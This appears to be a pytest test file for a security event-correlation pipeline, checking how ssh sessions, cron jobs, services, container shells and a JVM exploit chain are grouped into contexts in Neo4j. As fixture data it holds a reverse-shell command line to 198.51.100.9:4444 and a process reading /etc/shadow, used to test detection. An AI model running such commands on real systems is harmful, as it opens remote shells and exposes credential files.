"""The context layers: every event's correlation key, per scenario, as sets."""

from __future__ import annotations

import itertools
import json
from dataclasses import dataclass, field
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.ingest import ingest
from app.layers import session_uuids
from app.neo4j.database import Database
from app.pipeline import Pipeline
from tests.apiclient import local_client
from tests.graphstate import rows

_ids = itertools.count(1)


@dataclass
class P:
    """A process in a scenario; its events carry its parent (and grandparents)."""

    host: str
    pid: int
    start: int  # seconds after 08:00
    exe: str
    args: list[str] | None = None
    parent: P | None = None
    attrs: dict[str, Any] = field(default_factory=dict)
    container: dict[str, Any] | None = None
    pod: dict[str, Any] | None = None

    @property
    def start_time(self) -> str:
        minutes, seconds = divmod(self.start, 60)
        hours, minutes = divmod(minutes, 60)
        return f"2026-01-05T{8 + hours:02d}:{minutes:02d}:{seconds:02d}.000000000Z"

    @property
    def key(self) -> str:
        return f"{self.host}|{self.pid}|{self.start_time}"

    def model(self) -> dict[str, Any]:
        m = {"pid": self.pid, "start_time": self.start_time, "exe": self.exe, **self.attrs}
        if self.args is not None:
            m["args"] = self.args
        if self.parent is not None:
            m["ppid"] = self.parent.pid
        return m

    def child(self, pid: int, start: int, exe: str, args: list[str] | None = None, **attrs):
        inherited = {k: v for k, v in self.attrs.items() if k in ("auid", "session_id", "tty")}
        inherited.update(attrs)
        return P(self.host, pid, start, exe, args, self, inherited, self.container, self.pod)

    def exec(self, **extra: Any) -> dict[str, Any]:
        return self.event("process_exec", **extra)

    def event(self, kind: str, **extra: Any) -> dict[str, Any]:
        e: dict[str, Any] = {
            "id": f"{self.host}-{kind}-{self.pid}-{next(_ids)}",
            "ts": self.start_time,
            "source": "test",
            "host": {"id": self.host},
            "kind": kind,
            "process": self.model(),
        }
        if self.parent is not None:
            e["parent"] = self.parent.model()
        if self.container is not None:
            e["container"] = self.container
        if self.pod is not None:
            e["pod"] = self.pod
        e.update(extra)
        return e


def uuid(p: P, layer: str) -> str:
    index = {"k8s_user_session": 0, "exploit": 1, "interactive_shell": 2}[layer]
    return session_uuids(p.key)[index]


# Layer scenarios mark compromise with explicit sensor alerts only: the built-in
# rules (tested in tests/rules) would mark the same processes, earlier.
SIGNALS_FROM_INPUT_ONLY = Pipeline(rules=())


def load(db: Database, events: list[dict[str, Any]], batch_size: int = 2000) -> None:
    text = [json.dumps(e) + "\n" for e in events]
    report = ingest(db, "storyline", text, batch_size, after_batch=SIGNALS_FROM_INPUT_ONLY)
    assert report.rejected == [], report.rejected


def keys(db: Database) -> set[tuple[str, str]]:
    """Returns (event id, correlation key) for every event."""
    return rows(db, "MATCH (e:Event) WHERE e.placeholder IS NULL RETURN e.id, e.correlation_key")


def expect(events: list[dict[str, Any]], key_of: dict[int, str]) -> set[tuple[str, str]]:
    return {(e["id"], key_of[e["process"]["pid"]]) for e in events}


# scenarios -------------------------------------------------------------------


def ssh_session(host: str = "node-1") -> tuple[list[dict], dict[int, str]]:
    """sshd -> sshd session (login sets auid) -> bash -> sudo -i -> bash -> tmux -> bash."""
    init = P(host, 1, 0, "/sbin/init", ["/sbin/init"], attrs={"cgroup": "/init.scope"})
    sshd = init.child(800, 1, "/usr/sbin/sshd", ["/usr/sbin/sshd", "-D"],
                      cgroup="/system.slice/ssh.service", auid=4294967295)  # fmt: skip
    priv = sshd.child(900, 10, "/usr/sbin/sshd", ["sshd: alice [priv]"], auid=1000, session_id=3,
                      cgroup="/user.slice/user-1000.slice/session-3.scope")  # fmt: skip
    bash = priv.child(1000, 11, "/bin/bash", ["-bash"], tty="pts/0", uid=1000)
    sudo = bash.child(1010, 12, "/usr/bin/sudo", ["sudo", "-i"])
    root = sudo.child(1011, 13, "/bin/bash", ["-bash"], uid=0)
    tmux = root.child(1020, 14, "/usr/bin/tmux", ["tmux"])
    server = tmux.child(1021, 15, "/usr/bin/tmux", ["tmux"], tty=None)
    inner = server.child(1022, 16, "/bin/bash", ["-bash"], tty="pts/1")
    cat = inner.child(1023, 17, "/usr/bin/cat", ["cat", "/etc/shadow"])
    events = [p.exec() for p in (init, sshd, priv, bash, sudo, root, tmux, server, inner, cat)]
    events.append(cat.event("file_open", file={"path": "/etc/shadow"}))
    shell = uuid(bash, "interactive_shell")
    key_of = {
        1: f"{host}:/init.scope",
        800: f"{host}:ssh.service",
        900: f"{host}:1000:3",
        **{pid: shell for pid in (1000, 1010, 1011, 1020, 1021, 1022, 1023)},
    }
    return events, key_of


def cron_jobs() -> tuple[list[dict], dict[int, str]]:
    """cron runs the same job twice; each run has its own audit session."""
    cron = P("node-1", 500, 2, "/usr/sbin/cron", ["/usr/sbin/cron", "-f"],
             attrs={"service": "cron.service", "auid": 4294967295})  # fmt: skip
    events, key_of = [cron.exec()], {500: "node-1:cron.service"}
    for run, (pid, ses) in enumerate(((600, 21), (700, 22))):
        job = cron.child(pid, 60 * (run + 1), "/usr/sbin/cron", ["/usr/sbin/CRON", "-f"],
                         auid=0, session_id=ses)  # fmt: skip
        sh = job.child(pid + 1, 60 * (run + 1), "/bin/sh", ["/bin/sh", "-c", "/opt/backup.sh"])
        tar = sh.child(pid + 2, 60 * (run + 1) + 1, "/usr/bin/tar", ["tar", "czf", "/b.tgz"])
        events += [job.exec(), sh.exec(), tar.exec(), tar.event("file_write", file={"path": "/b"})]
        key_of.update(dict.fromkeys((pid, pid + 1, pid + 2), f"node-1:0:{ses}"))
    return events, key_of


def service_restart() -> tuple[list[dict], dict[int, str]]:
    """nginx.service starts, serves, is restarted: both runs are one service context."""
    init = P("node-1", 1, 0, "/sbin/init", attrs={"cgroup": "/init.scope"})
    events: list[dict] = []
    for pid, start in ((300, 5), (350, 100)):
        master = init.child(pid, start, "/usr/sbin/nginx", ["nginx"],
                            cgroup="/system.slice/nginx.service")  # fmt: skip
        worker = master.child(pid + 1, start, "/usr/sbin/nginx", ["nginx: worker process"])
        events += [master.exec(), worker.exec(),
                   worker.event("network_accept", network={"src_port": 80})]  # fmt: skip
    key_of = {
        1: "node-1:/init.scope",
        **dict.fromkeys((300, 301, 350, 351), "node-1:nginx.service"),
    }
    return events, key_of


CONTAINER = {"id": "c1", "name": "web", "image": "shop/web:1.4"}
POD = {"uid": "pod-web-1", "name": "web-7d9f-abc", "namespace": "shop", "workload": "web",
       "cluster": "prod"}  # fmt: skip


def container_with_shell() -> tuple[list[dict], dict[int, str], P]:
    """containerd-shim -> entrypoint (workload) ; runc -> sh with a tty (docker exec -it)."""
    shim = P("node-2", 2000, 0, "/usr/bin/containerd-shim-runc-v2",
             attrs={"cgroup": "/system.slice/containerd.service"})  # fmt: skip
    entry = shim.child(2001, 1, "/usr/local/bin/python", ["python", "app.py"])
    entry.container, entry.pod = CONTAINER, POD
    worker = entry.child(2002, 2, "/usr/local/bin/python", ["python", "app.py", "--worker"])
    runc = shim.child(2100, 50, "/usr/bin/runc", ["runc", "exec", "-t", "c1", "sh"])
    sh = runc.child(2101, 50, "/bin/sh", ["sh"], tty="pts/0")
    sh.container, sh.pod = CONTAINER, POD
    ls = sh.child(2102, 51, "/bin/ls", ["ls", "/"])
    events = [p.exec() for p in (shim, entry, worker, runc, sh, ls)]
    events.append(worker.event("network_listen", network={"src_port": 8080}))
    key_of = {
        2000: "node-2:containerd.service",
        2001: "prod:shop:web",
        2002: "prod:shop:web",
        2100: "node-2:containerd.service",
        2101: uuid(sh, "interactive_shell"),
        2102: uuid(sh, "interactive_shell"),
    }
    return events, key_of, sh


def jvm_exploit() -> tuple[list[dict], dict[int, str], dict]:
    """java (a service) -> sh -c -> bash -i -> id: one exploit context, not three."""
    java = P("node-3", 400, 0, "/usr/bin/java", ["java", "-jar", "/opt/app.jar"],
             attrs={"cgroup": "/system.slice/app.service", "uid": 998})  # fmt: skip
    sh = java.child(4000, 30, "/bin/sh", ["sh", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"])
    bash = sh.child(4001, 30, "/bin/bash", ["bash", "-i"])
    ident = bash.child(4002, 31, "/usr/bin/id", ["id"])
    events = [p.exec() for p in (java, sh, bash, ident)]
    events.append(
        bash.event("network_connect", network={"dst_ip": "198.51.100.9", "dst_port": 4444})
    )
    alert = sh.event(
        "alert",
        alert={
            "rule_id": "sensor.shell_from_jvm",
            "title": "Shell spawned by a JVM",
            "severity": "high",
            "tactic": "execution",
            "technique": "T1059.004",
            "compromises": True,
            "on_event": events[1]["id"],
        },
    )
    exploit = uuid(sh, "exploit")
    key_of = {400: "node-3:app.service", 4000: exploit, 4001: exploit, 4002: exploit}
    return events, key_of, alert


# tests -------------------------------------------------------------------------


def test_ssh_login_with_sudo_and_nested_tmux_is_one_shell_context(db: Database) -> None:
    events, key_of = ssh_session()
    load(db, events)
    assert keys(db) == expect(events, key_of)


def test_each_cron_run_is_its_own_audit_session(db: Database) -> None:
    events, key_of = cron_jobs()
    load(db, events)
    assert keys(db) == expect(events, key_of)


def test_a_restarted_service_stays_one_context(db: Database) -> None:
    events, key_of = service_restart()
    load(db, events)
    assert keys(db) == expect(events, key_of)


def test_container_entrypoint_and_an_execd_shell(db: Database) -> None:
    events, key_of, _ = container_with_shell()
    load(db, events)
    assert keys(db) == expect(events, key_of)


def test_kubectl_exec_with_the_session_on_the_process(db: Database) -> None:
    events, key_of, sh = container_with_shell()
    session = {"kind": "k8s", "user": "alice@example.com", "id": "k8s-sess-1"}
    events = [
        {**e, "session": session} if e["process"]["pid"] in (2101, 2102) else e for e in events
    ]
    load(db, events)
    k8s = uuid(sh, "k8s_user_session")
    assert keys(db) == expect(events, {**key_of, 2101: k8s, 2102: k8s})


def test_kubectl_exec_whose_audit_record_arrives_an_hour_later(db: Database) -> None:
    events, key_of, sh = container_with_shell()
    load(db, events)
    assert keys(db) == expect(events, key_of)
    audit = {
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Request",
        "auditID": "5b1e", "stage": "ResponseStarted", "verb": "create",
        "requestURI": "/api/v1/namespaces/shop/pods/web-7d9f-abc/exec?command=sh&container=web"
                      "&stdin=true&tty=true",
        "user": {"username": "alice@example.com"}, "sourceIPs": ["10.0.0.7"],
        "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "shop",
                      "name": "web-7d9f-abc"},
        "responseStatus": {"code": 101},
        "requestReceivedTimestamp": "2026-01-05T08:00:49.500000Z",
        "stageTimestamp": "2026-01-05T08:00:49.600000Z",
    }  # fmt: skip
    report = ingest(
        db, "k8s-audit", [json.dumps(audit) + "\n"], after_batch=SIGNALS_FROM_INPUT_ONLY
    )
    assert report.accepted == 1
    k8s = uuid(sh, "k8s_user_session")
    assert keys(db) == expect(events, {**key_of, 2101: k8s, 2102: k8s})
    reason = "Kubernetes audit create pods/exec by alice@example.com"
    assert rows(db, "MATCH (c:Context {key: $k}) RETURN c.layer, c.root, c.reason", k=k8s) == {
        ("k8s_user_session", sh.key, f"{reason} (audit record 5b1e:ResponseStarted)")
    }


def test_a_jvm_spawning_a_reverse_shell_is_one_exploit_context(db: Database) -> None:
    events, key_of, alert = jvm_exploit()
    load(db, [*events, alert])
    assert keys(db) == expect([*events, alert], key_of)
    assert rows(db, "MATCH (c:Context {layer: 'exploit'}) RETURN c.key, c.reason") == {
        (
            key_of[4000],
            "marked compromised by signal sensor.shell_from_jvm (Shell spawned by a JVM)",
        )
    }


def test_a_compromise_mark_after_the_subtree_re_keys_it(db: Database) -> None:
    events, key_of, alert = jvm_exploit()
    load(db, events)
    before = dict(keys(db))
    assert before[events[2]["id"]] != key_of[4001]  # bash -i: its own shell context, for now
    load(db, [alert])
    assert keys(db) == expect([*events, alert], key_of)


def test_a_child_ingested_before_its_parent(db: Database) -> None:
    events, key_of = ssh_session()
    for event in reversed(events):
        load(db, [event])
    assert keys(db) == expect(events, key_of)


def test_two_hosts_with_the_same_pids_do_not_mix(db: Database) -> None:
    a_events, a_keys = ssh_session("node-a")
    b_events, b_keys = ssh_session("node-b")
    load(db, a_events + b_events)
    assert a_keys[1000] != b_keys[1000]
    assert keys(db) == expect(a_events, a_keys) | expect(b_events, b_keys)


def test_contexts_are_linked_and_explained(db: Database) -> None:
    events, key_of = ssh_session()
    load(db, events)
    assert rows(
        db,
        "MATCH (p:Process {pid: 1011})-[:IN_CONTEXT]->(c:Context) RETURN c.layer, c.key",
    ) == {
        ("interactive_shell", key_of[1011]),
        ("auid", "node-1:1000:3"),
        ("service", "node-1:ssh.service"),
    }
    query = "MATCH (c:Context {key: $k}) RETURN c.root, c.reason, c.class"
    assert rows(db, query, k=key_of[1000]) == {
        (f"node-1|1000|{P('node-1', 1000, 11, '').start_time}",
         "interactive shell /bin/bash on pts/0 started by /usr/sbin/sshd", "session")
    }  # fmt: skip


def _all_scenarios() -> tuple[list[dict], set[tuple[str, str]]]:
    events: list[dict] = []
    expected: set[tuple[str, str]] = set()
    for build in (ssh_session, cron_jobs, service_restart):
        e, k = build()
        events += e
        expected |= expect(e, k)
    e, k, _ = container_with_shell()
    events += e
    expected |= expect(e, k)
    e, k, alert = jvm_exploit()
    events += [*e, alert]
    expected |= expect([*e, alert], k)
    return events, expected


@settings(
    max_examples=10,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=st.data())
def test_every_order_gives_the_same_keys(db: Database, data: st.DataObject) -> None:
    events, expected = _all_scenarios()
    shuffled = data.draw(st.permutations(events), label="order")
    batch = data.draw(st.integers(min_value=1, max_value=len(events)), label="batch size")
    with db.session() as s:
        s.run("MATCH (n) DETACH DELETE n").consume()
    load(db, shuffled, batch_size=batch)
    assert keys(db) == expected


def test_graphql_explains_an_events_key(db: Database) -> None:

    from app.api.app import create_app

    events, key_of, alert = jvm_exploit()
    load(db, [*events, alert])
    query = """query($id: ID!) { event(id: $id) { kind correlationKey processPid
        explain { layer contextClass rootProcessPid rootProcessExe reason } } }"""
    with local_client(create_app(db)) as client:
        connect = events[-1]["id"]
        body = client.post("/graphql", json={"query": query, "variables": {"id": connect}}).json()
        missing = client.post("/graphql", json={"query": query, "variables": {"id": "nope"}})
    assert body["data"]["event"] == {
        "kind": "network_connect",
        "correlationKey": key_of[4001],
        "processPid": 4001,
        "explain": {
            "layer": "exploit",
            "contextClass": "session",
            "rootProcessPid": 4000,
            "rootProcessExe": "/bin/sh",
            "reason": "marked compromised by signal sensor.shell_from_jvm (Shell spawned by a JVM)",
        },
    }
    assert missing.json()["data"]["event"] is None


def test_every_generated_event_has_exactly_one_key_and_each_chain_one_context(
    db: Database,
) -> None:
    from app.generate import Truth, lines

    truth = Truth(11, 6000, 3, True)
    text = [line + "\n" for line in lines(11, 6000, truth=truth)]
    report = ingest(db, "storyline", text, batch_size=1000)
    assert (report.accepted, report.rejected) == (6000, [])
    _, found = db.query(
        "MATCH (e:Event) WHERE e.placeholder IS NULL "
        "RETURN e.id AS id, e.correlation_key AS key, size(labels(e)) AS labels"
    )
    assert len(found) == 6000
    assert all(isinstance(r["key"], str) and r["key"] for r in found)  # one key: a string
    key_of = {r["id"]: r["key"] for r in found}
    chains = truth.to_dict()["chains"]
    assert {c["kind"] for c in chains} == {"webshell", "jvm_revshell", "kubectl_exec"}
    for chain in chains:
        assert len({key_of[e] for e in chain["events"]}) == 1, chain["id"]


def test_a_child_stamped_before_its_parent_is_filled_in_is_stamped_again(
    db: Database,
) -> None:
    """Step by step: the child is stamped while its parent is a placeholder, then the
    parent's own exec fills it in (a shell: so the child's `bash -i` is no new
    interactive session, and the parent's keys stay)."""
    sshd = P("n1", 100, 0, "/usr/sbin/sshd", ["/usr/sbin/sshd", "-D"],
             attrs={"cgroup": "/system.slice/ssh.service"})  # fmt: skip
    outer = sshd.child(200, 1, "/bin/bash", ["bash"])
    inner = outer.child(300, 2, "/bin/bash", ["bash", "-i"], tty="pts/0")
    child_first = inner.exec(
        parent={"pid": outer.pid, "start_time": outer.start_time},  # named, nothing known
        ancestors=[sshd.model()],
    )
    query = "MATCH (p:Process) RETURN p.key, p.correlation_key, p.correlation_layer"

    ingest(db, "storyline", [json.dumps(e) + "\n" for e in (sshd.exec(), child_first)],
           after_batch=None)  # fmt: skip
    SIGNALS_FROM_INPUT_ONLY.drain(db)  # the child is stamped under a placeholder parent
    early = {k: (key, layer) for k, key, layer in rows(db, query)}
    assert early[inner.key] == (uuid(inner, "interactive_shell"), "interactive_shell")
    ingest(db, "storyline", [json.dumps(outer.exec()) + "\n"], after_batch=None)
    SIGNALS_FROM_INPUT_ONLY.drain(db)
    after = rows(db, query)

    db.query("MATCH (n) DETACH DELETE n", write=True)
    load(db, [sshd.exec(), child_first, outer.exec()])
    assert after == rows(db, query)
    keys = {k: key for k, key, _ in after}
    assert keys[inner.key] == keys[outer.key] == early[outer.key][0]
